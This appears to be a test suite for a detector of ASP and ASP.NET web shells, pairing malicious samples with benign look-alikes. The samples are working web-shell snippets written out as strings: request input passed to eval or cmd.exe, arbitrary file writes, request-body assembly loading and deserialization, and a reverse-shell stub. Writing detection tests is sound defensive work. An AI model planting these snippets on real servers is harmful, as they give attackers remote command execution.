import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { aspAnalyzer, aspxAnalyzer } from "./asp.ts";
import type { LanguageAnalyzer, Reason } from "./types.ts";

interface Case {
  id: string;
  severity: "malicious" | "suspicious" | "info";
  line: number;
  pos: string;
  /** A legitimate page of the same shape: must not carry the family (nor any non-info reason). */
  neg: string;
}

function verdict(rs: Reason[]): string {
  return rs.some((r) => r.severity === "malicious") ? "malicious" : rs.some((r) => r.severity === "suspicious") ? "suspicious" : "clean";
}

function runCases(an: LanguageAnalyzer, cases: Case[]): void {
  for (const c of cases) {
    it(`WS-8 ${c.id}: flags the positive case at line ${c.line}`, () => {
      const rs = an.analyze(c.pos);
      const r = rs.find((x) => x.id === c.id);
      assert.ok(r, `no ${c.id} in ${JSON.stringify(rs)}`);
      assert.equal(r.severity, c.severity);
      assert.equal(r.line, c.line);
      assert.equal(r.layer, "heuristic");
      assert.ok(r.text.length > 10 && (r.excerpt ?? "").length <= 120);
    });
    it(`WS-8 ${c.id}: leaves the legitimate look-alike clean`, () => {
      const rs = an.analyze(c.neg);
      assert.equal(rs.find((x) => x.id === c.id && x.severity !== "info"), undefined, JSON.stringify(rs));
      assert.equal(verdict(rs), "clean", JSON.stringify(rs));
    });
  }
}

describe("classic ASP heuristics (WS-1, WS-8)", () => {
  runCases(aspAnalyzer, [
    {
      id: "asp.input-to-eval",
      severity: "malicious",
      line: 3,
      pos: '<%\nx = Request.Form("a")\nExecute x\n%>',
      neg: '<%\nFor i = 1 To 3\n  Execute "Dim v" & i\nNext\nSet rs = conn.Execute("SELECT * FROM t WHERE id=" & CLng(Request("id")))\n%>',
    },
    {
      id: "asp.obfuscated-eval",
      severity: "malicious",
      line: 3,
      pos: '<html>\n<%\nExecute(StrReverse(")""x""(tseuqer lave"))\n%>',
      neg: '<%\nResponse.Write StrReverse("olleh") & Chr(13) & Chr(10)\nExecute "x = " & Chr(34) & "a" & Chr(34)\n%>',
    },
    {
      id: "asp.input-to-shell",
      severity: "malicious",
      line: 4,
      pos: '<%\nSet sh = Server.CreateObject("WScript.Shell")\nc = Request("c")\nResponse.Write sh.Exec("cmd /c " & c).StdOut.ReadAll\n%>',
      neg: '<%\nSet sh = Server.CreateObject("WScript.Shell")\nrc = sh.Run("cmd /c C:\\scripts\\backup.cmd", 0, True)\n%>',
    },
    {
      id: "asp.shell-exec",
      severity: "suspicious",
      line: 5,
      pos: '<%\nSet sh = CreateObject("WScript.Shell")\njob = Session("job")\nid = Request("id")\nsh.Run job, 0, True\n%>',
      neg: '<%\nSet sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1\n%>',
    },
    {
      id: "asp.input-to-createobject",
      severity: "malicious",
      line: 2,
      pos: '<%\nSet o = Server.CreateObject(Request("prog"))\n%>',
      neg: '<%\nSet o = Server.CreateObject("ADODB.Connection")\no.Open Application("cs")\n%>',
    },
    {
      id: "asp.input-file-write",
      severity: "malicious",
      line: 6,
      pos: '<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Server.MapPath(Request("f")), 2\n%>',
      neg: '<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Server.MapPath("/uploads/") & "\\" & Session.SessionID & ".jpg", 2\n%>',
    },
    {
      id: "asp.file-manager",
      severity: "suspicious",
      line: 3,
      pos: '<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet fo = fso.GetFolder(Request("d"))\nfso.DeleteFile Request("f"), True\n%>',
      neg: '<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet fo = fso.GetFolder(Server.MapPath("/docs"))\nFor Each f In fo.Files : Response.Write f.Name : Next\n%>',
    },
    {
      id: "asp.sql-console",
      severity: "suspicious",
      line: 3,
      pos: '<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Request.Form("cs")\nSet rs = conn.Execute(Request.Form("sql"))\n%>',
      neg: '<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Application("cs")\nSet rs = conn.Execute("SELECT name FROM t WHERE id=" & CLng(Request("id")))\n%>',
    },
    {
      id: "asp.encoded-script",
      severity: "suspicious",
      line: 2,
      pos: '<html>\n<%#@~^CAAAAA==@#@&-mVv@#@&TgAAAA==^#~@%>',
      neg: '<html>\n<%= Now() %>',
    },
    {
      id: "asp.xslt-script",
      severity: "malicious",
      line: 2,
      pos: '<%\nx = "<msxsl:script language=""JScript"" implements-prefix=""u"">function f(c){return new ActiveXObject(\'WScript.Shell\').Exec(c).StdOut.ReadAll();}</msxsl:script>"\nResponse.Write doc.TransformNode(xsl)\n%>',
      neg: '<%\nx = "<xsl:stylesheet version=""1.0""><xsl:template match=""/"">hi</xsl:template></xsl:stylesheet>"\nResponse.Write doc.TransformNode(xsl)\n%>',
    },
  ]);

  it("WS-8 asp: the classic one-liners are malicious", () => {
    for (const s of ['<%eval request("x")%>', '<%execute(request("x"))%>', '<%ExecuteGlobal Request.Form("x")%>', '<%@ Language="JScript" %><%eval(Request.Item["x"])%>'])
      assert.equal(verdict(aspAnalyzer.analyze(s)), "malicious", s);
  });

  it("WS-8 asp: code in comments, strings and template text is not code", () => {
    const s = "<p>eval request(\"x\") is how a shell looks</p>\n<%\n' execute request(\"y\")\nResponse.Write \"execute request(z)\"\n%>";
    assert.deepEqual(aspAnalyzer.analyze(s), []);
  });

  it("WS-8 asp: a UTF-7 page (codepage 65000) is read as IIS reads it", () => {
    const s = "<%@codepage=65000%>\n<%\n+AGUAdgBhAGwAKAByAGUAcQB1AGUAcwB0ACgAIgB4ACIAKQAp-\n%>";
    const r = aspAnalyzer.analyze(s).find((x) => x.id === "asp.input-to-eval");
    assert.equal(r?.line, 3);
  });

  it("WS-8 asp: request input through a Sub called without parentheses reaches SaveToFile", () => {
    const s = '<%\nSub Save(p)\n  Set st = Server.CreateObject("ADODB.Stream")\n  st.Write Request.BinaryRead(Request.TotalBytes)\n  st.SaveToFile p, 2\nEnd Sub\ndest = Request.QueryString("to")\nSave dest\n%>';
    const r = aspAnalyzer.analyze(s).find((x) => x.id === "asp.input-file-write");
    assert.equal(r?.severity, "malicious");
    assert.equal(r?.line, 5);
  });
});

describe("ASP.NET heuristics (WS-1, WS-8)", () => {
  runCases(aspxAnalyzer, [
    {
      id: "aspx.input-to-process",
      severity: "malicious",
      line: 4,
      pos: '<%@ Page Language="C#" %>\n<%\nvar psi = new System.Diagnostics.ProcessStartInfo("cmd.exe");\npsi.Arguments = "/c " + Request.Form["c"];\nSystem.Diagnostics.Process.Start(psi);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar psi = new System.Diagnostics.ProcessStartInfo("iisreset.exe", "/noforce");\nSystem.Diagnostics.Process.Start(psi);\n%>',
    },
    {
      id: "aspx.process-exec",
      severity: "suspicious",
      line: 5,
      pos: '<%@ Page Language="C#" %>\n<%\nstring id = Request["id"];\nstring job = (string)Session["job"];\nSystem.Diagnostics.Process.Start("cmd.exe", "/c " + job);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nstring work = Server.MapPath("~/App_Data/convert");\nSystem.Diagnostics.Process.Start(@"C:\\tools\\convert.exe", work + "\\\\in.docx");\n%>',
    },
    {
      id: "aspx.input-to-eval",
      severity: "malicious",
      line: 1,
      pos: '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
      neg: '<%@ Page Language="Jscript"%><%Response.Write(Request.Item["z"]);%>',
    },
    {
      id: "aspx.unsafe-eval",
      severity: "suspicious",
      line: 3,
      pos: '<%@ Page Language="Jscript"%>\n<%var s = Session["code"];\neval(s, "unsafe");%>',
      neg: '<%@ Page Language="Jscript"%>\n<%var s = Session["code"];\nResponse.Write(s);%>',
    },
    {
      id: "aspx.assembly-load",
      severity: "malicious",
      line: 4,
      pos: '<%@ Page Language="C#" %>\n<%\nbyte[] c = Request.BinaryRead(Request.ContentLength);\nSystem.Reflection.Assembly.Load(c).CreateInstance("U").Equals(this);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar a = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Reports.dll"));\nvar r = Activator.CreateInstance(a.GetType("Reports.Sales"));\n%>',
    },
    {
      id: "aspx.input-to-reflection",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nType t = Type.GetType(Request["t"]);\nobject o = Activator.CreateInstance(t);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar m = this.GetType().GetMethod(Request["action"]);\nif (m != null && m.ReturnType == typeof(string)) Response.Write(m.Invoke(this, null));\n%>',
    },
    {
      id: "aspx.process-reflection",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nType p = Type.GetType("System.Diag" + "nostics.Process");\np.GetMethod("Start", new Type[] { typeof(string) }).Invoke(null, new object[] { Request["c"] });\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nType p = Type.GetType("Site.Reports.Sales");\n%>',
    },
    {
      id: "aspx.input-to-compiler",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nvar r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar r = new Microsoft.CSharp.CSharpCodeProvider();\n%>',
    },
    {
      id: "aspx.input-file-write",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nSystem.IO.File.WriteAllText(Server.MapPath(Request["f"]), Request["c"]);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar f = Request.Files[0];\nf.SaveAs(System.IO.Path.Combine(Server.MapPath("~/uploads"), Guid.NewGuid() + ".png"));\n%>',
    },
    {
      id: "aspx.file-manager",
      severity: "suspicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nforeach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name);\nforeach (var f in System.IO.Directory.GetFiles(Request["d"])) Response.Write(f);\nSystem.IO.File.Delete(Request["x"]);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nforeach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/App_Data/logs"))) Response.Write(System.IO.Path.GetFileName(f));\n%>',
    },
    {
      id: "aspx.sql-console",
      severity: "suspicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nvar conn = new System.Data.SqlClient.SqlConnection(Request.Form["cs"]);\nvar cmd = new System.Data.SqlClient.SqlCommand(Request.Form["sql"], conn);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar conn = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["db"].ConnectionString);\nvar cmd = new System.Data.SqlClient.SqlCommand("SELECT 1 WHERE @a = 1", conn);\ncmd.Parameters.AddWithValue("@a", Request["a"]);\n%>',
    },
    {
      id: "aspx.input-deserialization",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nobject o = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(Request.InputStream);\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar body = new System.IO.StreamReader(Request.InputStream).ReadToEnd();\nvar o = new System.Web.Script.Serialization.JavaScriptSerializer().Deserialize<Dictionary<string, string>>(body);\n%>',
    },
    {
      id: "aspx.memshell-inject",
      severity: "suspicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nSystem.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new MyProvider());\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar vp = System.Web.Hosting.HostingEnvironment.VirtualPathProvider;\n%>',
    },
    {
      id: "aspx.reverse-shell",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nvar c = new System.Net.Sockets.TcpClient(Request["h"], 4444);\nvar p = new System.Diagnostics.Process();\np.StartInfo.FileName = "cmd.exe";\np.StartInfo.RedirectStandardInput = true;\np.Start();\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nvar c = new System.Net.Sockets.TcpClient("smtp.example.com", 25);\n%>',
    },
    {
      id: "aspx.xslt-script",
      severity: "malicious",
      line: 3,
      pos: '<%@ Page Language="C#" %>\n<%\nstring x = "<msxsl:script language=\\"C#\\" implements-prefix=\\"u\\">public string f(string c){ System.Diagnostics.Process.Start(c); return c; }</msxsl:script>";\n%>',
      neg: '<%@ Page Language="C#" %>\n<%\nstring x = "<xsl:template match=\\"/\\">hi</xsl:template>";\n%>',
    },
  ]);

  it("WS-8 aspx.input-to-process: a WebForms TextBox is request input, through a method parameter", () => {
    const s = [
      '<%@ Page Language="C#" %>',
      '<script runat="server">',
      "string Run(string c) {",
      '  var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c);',
      "  return p.StandardOutput.ReadToEnd();",
      "}",
      "void Go(object s, EventArgs e) { lbl.Text = Run(txtCmd.Text); }",
      "</script>",
      '<form runat="server"><asp:TextBox id="txtCmd" runat="server"/><asp:Label id="lbl" runat="server"/></form>',
    ].join("\n");
    const r = aspxAnalyzer.analyze(s).find((x) => x.id === "aspx.input-to-process");
    assert.equal(r?.line, 4);
  });

  it("WS-8 aspx.input-to-process: [WebMethod] parameters of an .asmx are request input", () => {
    const s = '<%@ WebService Language="C#" Class="T" %>\nusing System.Web.Services;\npublic class T : WebService {\n  [WebMethod]\n  public string X(string cmd) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd).Id.ToString(); }\n}';
    const r = aspxAnalyzer.analyze(s).find((x) => x.id === "aspx.input-to-process");
    assert.equal(r?.line, 5);
  });

  it("WS-8 aspx.compiler: compiling constant source alone stays below the suspicious score", () => {
    const s = '<%@ Page Language="C#" %>\n<%\nvar r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), "public class A {}");\n%>';
    const rs = aspxAnalyzer.analyze(s);
    assert.equal(rs.find((x) => x.id === "aspx.compiler")?.severity, "info");
    assert.equal(verdict(rs), "clean");
  });

  it("WS-8 aspx.obfuscation: machine-folded constants are suspicious", () => {
    const body = Array.from({ length: 12 }, (_, i) => `  case ((${100000 + i} ^ 123456) ^ (654321 ^ ${200000 + i})): n++; break;`).join("\n");
    const s = `<%@ Page Language="C#" %>\n<%\nint n = 0;\nswitch (n) {\n${body}\n}\n%>`;
    const r = aspxAnalyzer.analyze(s).find((x) => x.id === "aspx.obfuscation");
    assert.equal(r?.severity, "suspicious");
    assert.equal(r?.line, 5);
  });
});

describe("ASP/ASP.NET analyzer bounds (WS-8)", () => {
  it("WS-8 asp/aspx: megabyte lines and pathological text finish quickly and never throw", () => {
    const inputs = [
      "<%" + "x".repeat(6_000_000) + "%>",
      "<%" + 'Execute Execute Execute "'.repeat(200_000) + "%>",
      "<%" + "a(".repeat(500_000) + "%>",
      '<%@ WebHandler Language="C#" Class="H" %>\n' + "Process.Start(".repeat(300_000),
      "<%" + "\"".repeat(1_000_000) + "%>",
    ];
    for (const s of inputs) {
      for (const an of [aspAnalyzer, aspxAnalyzer]) {
        const t0 = performance.now();
        an.analyze(s);
        assert.ok(performance.now() - t0 < 4000, `${an.lang} took too long on a ${s.length}-char input`);
      }
    }
  });

  it("WS-8 asp: a shell after megabytes of padding is still found, at its real line", () => {
    const pad = "<!-- padding -->\n".repeat(300_000);
    const rs = aspAnalyzer.analyze(pad + '<%eval request("x")%>\n');
    assert.equal(rs.find((x) => x.id === "asp.input-to-eval")?.line, 300_001);
  });
});
